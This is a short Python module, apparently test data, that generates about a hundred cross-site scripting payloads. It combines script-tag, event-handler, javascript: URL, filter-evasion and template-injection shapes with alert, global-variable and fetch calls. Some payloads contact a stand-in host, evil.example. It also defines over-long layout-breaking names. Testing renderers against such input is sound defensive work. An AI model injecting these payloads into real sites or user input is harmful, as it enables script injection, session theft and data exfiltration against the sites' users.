"""A hundred texts that try to become part of a page, and names that try to break its layout."""

_CALLS = ("alert(1)", "window.owned=1", "fetch('//evil.example')")
_SHAPES = (
    "<script>{}</script>", "</title><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    "<img src=x onerror={}>", '"><img src=x onerror="{}">', "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<details open ontoggle={}>", '" autofocus onfocus="{}" x="', "' autofocus onfocus='{}' x='",
    "<iframe src=javascript:{}>", '<a href="javascript:{}">x</a>', "<form action=javascript:{}><button>x</button>",
    "<object data=javascript:{}>", "<math><mi xlink:href=javascript:{}>", "<input autofocus onfocus={}>",
    "<video><source onerror={}>", "<style>@import 'javascript:{}'</style>", "</textarea><script>{}</script>",
    "<!--<img src='--><img src=x onerror={}//'>", "<scr<script>ipt>{}</scr</script>ipt>",
    "{{{{ cycler.__init__.__globals__ }}}}<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e", "<base href=//evil.example><script src=x>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example/{}>",
    "<template><script>{}</script></template><img src=x onerror={}>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<marquee onstart={}>", "<button autofocus onfocus={}>x</button>", "{{% raw %}}<script>{}</script>",
)  # fmt: skip

PAYLOADS = tuple(shape.replace("{}", call) for shape in _SHAPES for call in _CALLS)
LONG_NAMES = ("W" * 200, "Ω" * 200, "word " * 40, "https://" + "x" * 190)
